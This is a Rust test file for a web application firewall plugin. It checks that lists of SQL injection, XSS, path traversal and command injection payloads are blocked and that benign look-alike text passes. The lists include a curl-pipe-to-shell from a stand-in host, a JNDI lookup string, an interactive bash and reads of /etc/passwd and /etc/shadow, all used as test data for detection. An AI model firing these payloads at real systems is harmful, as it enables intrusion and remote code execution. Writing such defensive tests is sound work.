//! Payloads per attack class are blocked wherever they arrive; benign inputs that look
//! a little like them pass.

use super::*;

fn plugin(json: &str) -> Waf {
    match Waf::from_json(json) {
        Ok(p) => p,
        Err(e) => panic!("config rejected: {e}"),
    }
}

pub const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 OR 1=1",
    "admin'--",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)#",
    "1' waitfor delay '0:0:5'--",
    "' or 1=1 limit 1 -- -+",
    "1 union/**/select 1,2,3",
    "x' AND extractvalue(1,concat(0x7e,(select version())))--",
    "SELECT * FROM information_schema.tables",
    "1%27%20OR%20%271%27%3D%271",
    "\" or \"\"=\"",
];

pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "\"><body onload=alert(1)>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<details open ontoggle=prompt(1)>",
];

pub const TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..\\..\\windows\\win.ini",
    "/var/www/../../etc/shadow",
    "file:///etc/passwd",
    "....//....//etc/passwd",
];

pub const CMDI: &[&str] = &[
    "; cat /etc/passwd",
    "| whoami",
    "127.0.0.1 && id",
    "$(curl http://evil.example/x.sh | sh)",
    "`wget http://evil.example`",
    "${jndi:ldap://evil.example/a}",
    "; /bin/bash -i",
    "x || ping -c 10 127.0.0.1",
];

pub const BENIGN: &[&str] = &[
    "\"best pizza\" near me",
    "O'Reilly books",
    "it's the 'best' or the worst",
    "rock and roll",
    "select a color from the list",
    "Tom & Jerry",
    "drop off point",
    "union station",
    "1 + 1 = 2",
    "price < 20 and rating > 4",
    "café crème",
    "a-b_c.d",
    "the onion router",
    "script writing tips",
    "release v1.2.3 notes",
    "email@example.com",
    "C# and F# are languages",
    "don't -- really",
];

fn blocked(p: &Waf, req: &mut Request) -> bool {
    let mut verdict = Verdict::default();
    matches!(
        p.on_request(&mut verdict, &Client::new("192.0.2.1", "http", "r"), req),
        Action::Respond(_)
    )
}

fn query(value: &str) -> Request {
    let encoded: String = value
        .bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'%' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect();
    Request::new("GET", &format!("/search?q={encoded}"))
}

#[test]
fn every_attack_class_is_blocked_in_the_query() {
    let p = plugin("{}");
    for (class, payloads) in [
        ("sqli", SQLI),
        ("xss", XSS),
        ("traversal", TRAVERSAL),
        ("cmdi", CMDI),
    ] {
        for payload in payloads {
            assert!(blocked(&p, &mut query(payload)), "{class}: {payload}");
        }
    }
}

#[test]
fn benign_inputs_pass() {
    let p = plugin("{}");
    for text in BENIGN {
        let mut verdict = Verdict::default();
        let mut req = query(text);
        let action = p.on_request(
            &mut verdict,
            &Client::new("192.0.2.1", "http", "r"),
            &mut req,
        );
        assert_eq!(action, Action::Continue, "{text}: {:?}", verdict.matched);
    }
    for path in [
        "/static/app.min.js",
        "/files/v1.2.3/readme.txt",
        "/a..b/c",
        "/users/o'neil",
    ] {
        assert!(!blocked(&p, &mut Request::new("GET", path)), "{path}");
    }
}

#[test]
fn headers_cookies_and_bodies_are_checked() {
    let p = plugin("{}");
    let mut req = Request::new("GET", "/").with_header("user-agent", "() { :; }; /bin/bash -c id");
    assert!(blocked(&p, &mut req));
    let mut req = Request::new("GET", "/").with_header("cookie", "theme=dark; sid=1' or '1'='1");
    assert!(blocked(&p, &mut req));
    // An unlisted header is not a built-in target.
    let mut req = Request::new("GET", "/").with_header("x-note", "<script>");
    assert!(!blocked(&p, &mut req));

    let body_score = |content_type: &str, body: &str| {
        let mut verdict = Verdict::default();
        p.score(
            &mut verdict,
            &rules::body_inputs(content_type, body.as_bytes()),
        );
        verdict.score
    };
    assert!(body_score("application/json", r#"{"q":"<script>alert(1)</script>"}"#) >= 5);
    assert!(body_score("application/json", r#"{"q":"\u003cscript\u003e"}"#) >= 5);
    assert!(
        body_score(
            "application/x-www-form-urlencoded",
            "name=x&q=1%27+OR+%271%27%3D%271"
        ) >= 5
    );
    assert!(body_score("text/plain", "; cat /etc/passwd") >= 5);
    assert_eq!(
        body_score("application/json", r#"{"expr":"a < b && c > d","n":1}"#),
        0
    );
    assert_eq!(
        body_score("application/json", r#"{"title":"O'Reilly","tags":["a.b"]}"#),
        0
    );
}

#[test]
fn scores_add_up_to_the_threshold() {
    // A quote before a comment scores 3: alone it passes, with a pipe to a command it blocks.
    let p = plugin("{}");
    assert!(!blocked(&p, &mut query("he said 'hi' -- bye")));
    assert!(blocked(&p, &mut query("x' -- | id")));
    let strict = plugin(r#"{"threshold":3}"#);
    assert!(blocked(&strict, &mut query("he said 'hi' -- bye")));
}

#[test]
fn log_mode_never_blocks() {
    let p = plugin(r#"{"mode":"log"}"#);
    for payload in SQLI.iter().chain(XSS).chain(TRAVERSAL).chain(CMDI) {
        assert!(!blocked(&p, &mut query(payload)), "{payload}");
    }
}

#[test]
fn own_rules_and_exclusions() {
    let p = plugin(
        r#"{"rules":[{"id":"9001","targets":["header:x-tenant"],"phrases":["evil-corp"],"score":5},
                     {"id":"9002","targets":["query:debug"],"regex":"^(1|true)$","score":5}],
            "exclusions":[{"rules":["2001","2004"],"path_prefix":"/cms/","targets":["body","query:html"]}]}"#,
    );
    let mut req = Request::new("GET", "/").with_header("x-tenant", "EVIL-CORP inc");
    assert!(blocked(&p, &mut req));
    assert!(blocked(&p, &mut Request::new("GET", "/?debug=true")));
    assert!(!blocked(&p, &mut Request::new("GET", "/?debug=0")));
    assert!(!blocked(
        &p,
        &mut Request::new("GET", "/cms/edit?html=%3Cscript%3E")
    ));
    assert!(blocked(
        &p,
        &mut Request::new("GET", "/cms/edit?other=%3Cscript%3E")
    ));
    assert!(blocked(
        &p,
        &mut Request::new("GET", "/blog?html=%3Cscript%3E")
    ));
}

#[test]
fn the_block_names_no_rule() {
    let r = forbidden();
    assert_eq!(r.status(), 403);
    assert_eq!(r.body_bytes(), br#"{"error":"forbidden"}"#);
}

#[test]
fn bad_configs_are_refused_with_the_key() {
    for (json, key) in [
        (r#"{"threshold":0}"#, "threshold"),
        (r#"{"builtin":["sqli","lfi"]}"#, "builtin"),
        (
            r#"{"rules":[{"id":"1001","targets":["path"],"phrases":["x"]}]}"#,
            "rules[0].id",
        ),
        (
            r#"{"rules":[{"id":"9","targets":[],"phrases":["x"]}]}"#,
            "rules[0].targets",
        ),
        (
            r#"{"rules":[{"id":"9","targets":["paths"],"phrases":["x"]}]}"#,
            "rules[0].targets",
        ),
        (
            r#"{"rules":[{"id":"9","targets":["header:"],"phrases":["x"]}]}"#,
            "rules[0].targets",
        ),
        (
            r#"{"rules":[{"id":"9","targets":["path"]}]}"#,
            "exactly one of regex and phrases",
        ),
        (
            r#"{"rules":[{"id":"9","targets":["path"],"regex":"("}]}"#,
            "rules[0].regex",
        ),
        (
            r#"{"exclusions":[{"rules":["77"]}]}"#,
            "exclusions[0].rules",
        ),
        (r#"{"mode":"audit"}"#, "audit"),
        (r#"{"treshold":5}"#, "treshold"),
    ] {
        let e = match Waf::from_json(json) {
            Ok(_) => panic!("accepted: {json}"),
            Err(e) => e,
        };
        assert!(e.contains(key), "{json}: {e}");
    }
}
